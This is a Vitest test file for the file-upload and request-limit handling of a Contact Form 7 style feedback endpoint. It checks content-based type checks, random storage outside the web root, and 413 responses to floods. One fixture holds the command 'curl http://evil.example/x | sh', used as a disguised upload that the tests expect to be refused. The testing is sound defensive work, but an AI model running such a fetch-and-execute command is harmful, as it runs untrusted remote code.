import { readdir, readFile, stat } from 'node:fs/promises';
import path from 'node:path';
import { once } from 'node:events';
import { connect } from 'node:net';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from './helpers/test-app.ts';
import { testDialect } from './helpers/test-db.ts';
import { answerOf, DEFAULT_USER_AGENT, multipartBody, postFeedback } from './helpers/multipart.ts';
import { testForms, validContactFields } from './helpers/test-forms.ts';

let testApp: TestApp;

beforeAll(async () => {
  testApp = await createTestApp({ MAIL_TO: 'sales@example.co.za' }, { forms: testForms });
  await testApp.app.ready();
});

afterAll(async () => {
  await testApp.cleanup();
});

const PDF = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2000, 0x20), Buffer.from('\n%%EOF\n')]);
const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(100)]);
const JPEG = Buffer.concat([Buffer.from('ffd8ffe000104a464946', 'hex'), Buffer.alloc(100)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const fileOf = (bytes: Buffer, name: string, type = 'application/pdf') => new File([new Uint8Array(bytes)], name, { type });
const fileError = (message: string) => [{ field: 'your-file', message, idref: null, error_id: 'wpcf7-f5-p2-o1-ve-your-file' }];
const storedFiles = async () => (await readdir(testApp.uploadDir)).sort();

describe(`uploaded files on ${testDialect}`, () => {
  it('stores an accepted file outside the web root under a random name and attaches it to the mail', async () => {
    const answer = answerOf(
      await postFeedback(testApp.app, 5, { ...validContactFields(), 'your-file': fileOf(PDF, 'C:\\fakepath\\..\\Site brief.pdf') }),
    );
    expect(answer.status).toBe('mail_sent');

    const { db } = testApp.database;
    const file = await db.selectFrom('submission_files').selectAll().orderBy('id', 'desc').executeTakeFirstOrThrow();
    expect(file).toMatchObject({ field: 'your-file', original_name: 'Site brief.pdf', media_type: 'application/pdf', size: PDF.length });
    expect(file.stored_name).toMatch(/^[0-9a-f]{32}\.pdf$/);
    const onDisk = path.join(testApp.uploadDir, file.stored_name);
    expect(await readFile(onDisk)).toEqual(PDF);
    expect((await stat(onDisk)).mode & 0o777).toBe(0o600);
    expect(path.relative(testApp.site.root, onDisk).startsWith('..')).toBe(true);

    const mail = await db.selectFrom('outbox').selectAll().where('submission_id', '=', file.submission_id).executeTakeFirstOrThrow();
    expect(JSON.parse(mail.attachments)).toEqual([
      { storedName: file.stored_name, filename: 'Site brief.pdf', contentType: 'application/pdf', size: PDF.length },
    ]);
    expect(mail.body).toContain('Drawing or brief (optional): Site brief.pdf (attached)');
    const submission = await db.selectFrom('submissions').selectAll().where('id', '=', file.submission_id).executeTakeFirstOrThrow();
    expect(JSON.parse(submission.posted_data)['your-file']).toEqual(['Site brief.pdf']);
  });

  it('accepts a JPEG and a PNG by their content', async () => {
    for (const file of [fileOf(JPEG, 'site.JPG', 'image/jpeg'), fileOf(PNG, 'plan.png', 'image/png')]) {
      expect(answerOf(await postFeedback(testApp.app, 5, { ...validContactFields(), 'your-file': file })).status).toBe('mail_sent');
    }
  });

  it('treats an empty file input as no file, without touching the disk', async () => {
    // An upload folder that does not exist yet: receiving a file would have to make it.
    const uploadDir = path.join(testApp.uploadDir, 'not-made-yet');
    const quiet = await createTestApp({ MAIL_TO: 'sales@example.co.za', UPLOAD_DIR: uploadDir }, { forms: testForms });
    try {
      const answer = answerOf(await postFeedback(quiet.app, 5, { ...validContactFields(), 'your-file': new File([], '') }));
      expect(answer.status).toBe('mail_sent');
      await expect(stat(uploadDir)).rejects.toMatchObject({ code: 'ENOENT' });
    } finally {
      await quiet.cleanup();
    }
  });

  it.each([
    ['a script named .pdf', fileOf(SCRIPT, 'brief.pdf')],
    ['a PNG named .pdf', fileOf(PNG, 'brief.pdf')],
    ['a PDF named .exe', fileOf(PDF, 'brief.exe', 'application/octet-stream')],
    ['an empty file with a name', fileOf(Buffer.alloc(0), 'brief.pdf')],
  ])('refuses %s by its content, and keeps nothing', async (_case, file) => {
    const before = await storedFiles();
    const answer = answerOf(await postFeedback(testApp.app, 5, { ...validContactFields(), 'your-file': file }));
    expect(answer.status).toBe('validation_failed');
    expect(answer.invalid_fields).toEqual(fileError('The selected file must be a PDF, JPG or PNG'));
    expect(await storedFiles()).toEqual(before);
  });

  it('refuses a file over the field\'s size with the field\'s message', async () => {
    const before = await storedFiles();
    const big = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5 * 1024 * 1024)]);
    const answer = answerOf(await postFeedback(testApp.app, 5, { ...validContactFields(), 'your-file': fileOf(big, 'big.pdf') }));
    expect(answer.status).toBe('validation_failed');
    expect(answer.invalid_fields).toEqual(fileError('The selected file must be smaller than 5 MB'));
    expect(await storedFiles()).toEqual(before);
  });

  it('refuses a body far beyond the form\'s limits unread: 413 wpcf7_request_too_large', async () => {
    const response = await testApp.app.inject({
      method: 'POST',
      url: '/wp-json/contact-form-7/v1/contact-forms/5/feedback',
      headers: { 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(200 * 1024 * 1024), 'user-agent': DEFAULT_USER_AGENT },
      payload: '--x--\r\n',
    });
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({ code: 'wpcf7_request_too_large', data: { status: 413 } });
  });

  it('stops reading a body without Content-Length once it passes every form\'s limit: 413', async () => {
    const chunks = (function* () {
      yield Buffer.from('--x\r\nContent-Disposition: form-data; name="your-message"\r\n\r\n');
      for (let index = 0; index < 40; index += 1) yield Buffer.alloc(1024 * 1024, 0x61);
    })();
    const response = await testApp.app.inject({
      method: 'POST',
      url: '/wp-json/contact-form-7/v1/contact-forms/5/feedback',
      headers: { 'content-type': 'multipart/form-data; boundary=x', 'user-agent': DEFAULT_USER_AGENT },
      payload: Readable.from(chunks),
    });
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({ code: 'wpcf7_request_too_large', data: { status: 413 } });
  });

  it('refuses more files than the form has file fields: 413 wpcf7_too_many_files', async () => {
    const response = await postFeedback(testApp.app, 5, {
      ...validContactFields(),
      'your-file': fileOf(PDF, 'a.pdf'),
      'your-name': fileOf(PDF, 'b.pdf') as unknown as string,
    });
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({ code: 'wpcf7_too_many_files', data: { status: 413, limit: 1 } });
  });

  it('refuses two files for one file field: 413 wpcf7_too_many_files', async () => {
    const response = await postFeedback(testApp.app, 42, {
      drawing: [fileOf(PDF, 'a.pdf'), fileOf(PDF, 'b.pdf')] as unknown as string[],
    });
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({ code: 'wpcf7_too_many_files' });
  });

  it('refuses a field value longer than any field accepts: 413 wpcf7_field_too_large', async () => {
    const response = await postFeedback(testApp.app, 5, validContactFields({ 'your-message': 'x'.repeat(70 * 1024) }));
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({ code: 'wpcf7_field_too_large', data: { status: 413, field: 'your-message', limit: 65536 } });
  });

  it('refuses a flood of fields: 413 wpcf7_too_many_fields', async () => {
    const flood = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`f${index}`, 'x']));
    const response = await postFeedback(testApp.app, 5, { ...validContactFields(), ...flood });
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({ code: 'wpcf7_too_many_fields', data: { status: 413 } });
  });

  it('refuses a broken multipart body: 400 wpcf7_invalid_multipart', async () => {
    const { payload, contentType } = await multipartBody(validContactFields());
    const response = await testApp.app.inject({
      method: 'POST',
      url: '/wp-json/contact-form-7/v1/contact-forms/5/feedback',
      headers: { 'content-type': contentType, 'user-agent': DEFAULT_USER_AGENT },
      payload: payload.subarray(0, payload.length - 40),
    });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ code: 'wpcf7_invalid_multipart', data: { status: 400 } });
  });

  it('refuses a flood of empty parts as soon as the form\'s count is passed, without waiting for the rest', async () => {
    // A real socket: the client sends a few hundred of its 200,000 parts and waits.
    const address = await testApp.app.listen({ port: 0, host: '127.0.0.1' });
    const socket = connect(Number(new URL(address).port), '127.0.0.1');
    await once(socket, 'connect');
    let answer = '';
    socket.on('data', (chunk: Buffer) => (answer += chunk.toString()));
    const closed = once(socket, 'close');
    const part = '--x\r\nContent-Disposition: form-data; name="f"\r\n\r\n\r\n';
    const first = part.repeat(500);
    socket.write(
      'POST /wp-json/contact-form-7/v1/contact-forms/5/feedback HTTP/1.1\r\nHost: 127.0.0.1\r\n' +
        `Content-Type: multipart/form-data; boundary=x\r\nUser-Agent: ${DEFAULT_USER_AGENT}\r\nTransfer-Encoding: chunked\r\n\r\n` +
        `${Buffer.byteLength(first).toString(16)}\r\n${first}\r\n`,
    );
    await closed;
    expect(answer).toMatch(/^HTTP\/1\.1 413/);
    expect(answer).toContain('wpcf7_too_many_fields');
    expect(answer.toLowerCase()).toContain('connection: close');
  });

  it('streams a file to disk under a temporary name and keeps none of it when the submission is refused', async () => {
    const before = await storedFiles();
    const answer = answerOf(await postFeedback(testApp.app, 5, { ...validContactFields({ 'your-email': 'not an address' }), 'your-file': fileOf(PDF, 'brief.pdf') }));
    expect(answer.status).toBe('validation_failed');
    expect(await storedFiles()).toEqual(before);
  });
});
